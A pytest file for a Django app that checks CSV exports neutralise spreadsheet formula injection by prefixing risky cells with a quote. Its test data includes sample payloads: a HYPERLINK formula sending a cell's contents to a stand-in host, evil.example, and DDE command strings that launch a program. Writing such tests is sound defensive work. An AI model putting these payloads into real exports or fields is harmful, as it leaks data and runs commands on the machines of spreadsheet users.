"""CSV exports never hand a spreadsheet a formula: text cells starting with =, +, -, @, tab or
carriage return get a leading single quote (OWASP), numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path
from urllib.parse import unquote

import pytest
from django.test import Client
from django.urls import reverse

from accounts.csv_safe import csv_cell
from accounts.models import User
from projects.models import Project
from tests.projects.dashboard_fixtures import *  # noqa: F403
from tests.projects.dashboard_fixtures import usage_add

pytestmark = pytest.mark.django_db

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx=1",
    "\r=1",
]


@pytest.mark.parametrize("value", EVIL)
def test_a_formula_cell_is_prefixed_with_a_quote(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "a=b", "", 12, Decimal("-0.25"), None])
def test_other_cells_are_unchanged(value):
    assert csv_cell(value) == value


def test_the_ledger_export_escapes_names_and_models(tenant):
    Project.objects.filter(pk=tenant.project.pk).update(name=EVIL[0])
    for i, model in enumerate(EVIL[1:]):
        usage_add(
            org=tenant.org, project=tenant.project, model=model, upstream=f"@up{i}", cost="0.5"
        )
    response = tenant.client().get(reverse("ledger:ledger_csv"))
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        assert Decimal(row["cost"]) >= 0
    assert {row["project"] for row in rows} == {"'" + EVIL[0]}
    assert {"'" + model for model in EVIL[1:]} <= {row["model"] for row in rows}


def test_the_redemption_codes_csv_escapes_the_batch_name(db):
    operator = User.objects.create_superuser(email="root@example.com", password="pw-root-1234")
    client = Client()
    client.force_login(operator)
    response = client.post(
        reverse("admin:ledger_redemptionbatch_add"),
        {"name": "=cmd|' /C calc'!A0", "currency": "CREDIT", "amount": "1", "count": "2"},
    )
    assert response.status_code == 200
    href = re.search(r'href="(data:text/csv[^"]+)"', response.content.decode()).group(1)
    body = unquote(href.split(",", 1)[1].replace("&amp;", "&").replace("&#x27;", "'"))
    rows = list(csv.DictReader(io.StringIO(body)))
    assert len(rows) == 2
    assert {row["batch"] for row in rows} == {"'=cmd|' /C calc'!A0"}


def test_every_csv_the_app_writes_goes_through_the_safe_writer():
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for app in ("accounts", "projects", "ledger", "routing", "researcher", "config"):
        for path in (root / app).rglob("*.py"):
            if path.name == "csv_safe.py":
                continue
            text = path.read_text()
            if re.search(r"\bcsv\.(writer|DictWriter)\(", text):
                offenders.append(str(path.relative_to(root)))
    assert offenders == [], f"use accounts.csv_safe.csv_writer in {offenders}"
